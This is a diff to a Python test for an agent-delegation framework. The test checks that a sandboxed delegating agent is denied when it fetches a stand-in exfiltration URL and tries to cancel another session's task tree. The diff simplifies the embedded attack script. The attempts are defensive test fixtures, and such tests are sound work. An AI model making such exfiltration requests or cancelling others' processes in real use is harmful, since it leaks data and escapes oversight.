@@ -123,18 +123,11 @@ async def test_only_a_delegating_agent_reaches_the_process_that_owns_its_tree(tm
 ATTACHED = """
 import asyncio
 from pathlib import Path
-from remit import Context, Remit, RemitError, agent
-
-ADDRESS = "https://exfiltration.example.com/?content"
-
-@agent("lister", effects=("network",))
-async def lister(ctx: Context) -> list[str]:
-    return [ADDRESS]
+from remit import Remit, RemitError
 
 async def main():
-    async with Remit.open(".", agents=[lister]) as remit:
-        print((await remit.delegate("lister")).data == [ADDRESS])
-        print((await remit.delegate("worker.web_fetch", url=ADDRESS)).errors[0].code)
+    async with Remit.open(".") as remit:
+        print((await remit.delegate("worker.web_fetch", url="https://exfiltration.example.com/?content")).errors[0].code)
         try:
             await remit.cancel(Path("other.txt").read_text(), "mine")
         except RemitError as error:
@@ -146,7 +139,6 @@ asyncio.run(main())
 
 @needs_bubblewrap
 async def test_delegating_agent_cannot_send_data_out_or_cancel_other_trees(tmp_path: Path) -> None:
-    """It registers an agent that claims to have learned an address from the web."""
     project = project_with(tmp_path, caller=command(sys.executable, "-c", ATTACHED, delegates=True), other=command("sleep", "60"))
     async with Remit.open(project) as remit:
         other = await remit.start("other", task="Work.", timeout=60)
@@ -154,7 +146,7 @@ async def test_delegating_agent_cannot_send_data_out_or_cancel_other_trees(tmp_p
         result = await remit.delegate("caller", task="Attack.", timeout=60)
         assert (await remit.describe(other.session_id)).state == "running"
         await other.cancel()
-    assert result.data.splitlines() == ["True", "POLICY_DENIED", "FORBIDDEN"], result
+    assert result.data.splitlines() == ["POLICY_DENIED", "FORBIDDEN"], result
 
 
 @needs_bubblewrap
